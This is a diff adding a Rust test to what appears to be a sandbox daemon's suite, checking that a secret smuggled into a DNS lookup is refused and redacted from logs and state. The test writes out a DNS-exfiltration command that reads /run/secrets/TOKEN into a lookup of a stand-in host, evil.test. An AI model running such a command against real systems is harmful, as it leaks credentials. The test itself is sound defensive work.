@@ -323,6 +323,27 @@ print(answer)",
     assert_told(&home, &["connections at once", "the client said too little for too long"]);
 }
 
+/// A name can be a secret as well as any other word of the payload: it is in no record and no log of agentd's.
+#[test]
+fn escape_a_secret_that_is_asked_for_as_a_name_is_not_kept() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let home = Home::new();
+    let mut command = home.run();
+    command.env("TOKEN", "Tok3nOfTheTest").args(["--allow", "web.test", "--secret", "TOKEN", "--", "sh", "-c"]);
+    let ran = run(command.arg("getent hosts $(cat /run/secrets/TOKEN).evil.test; exit 0")).expect_success();
+    assert!(
+        ran.stderr.contains("[redacted].evil.test") && !ran.stderr.to_lowercase().contains("tok3nofthetest"),
+        "{ran}"
+    );
+    assert_eq!(refusals(&home)[0]["host"], "[redacted].evil.test");
+    for path in home.paths().iter().filter(|path| path.starts_with("state")) {
+        let kept = std::fs::read_to_string(home.path().join(path)).unwrap_or_default().to_lowercase();
+        assert!(!kept.contains("tok3nofthetest"), "{}: {kept}", path.display());
+    }
+}
+
 /// Below one rule there are more names than memory.
 #[test]
 fn escape_names_below_a_rule_are_bounded() {
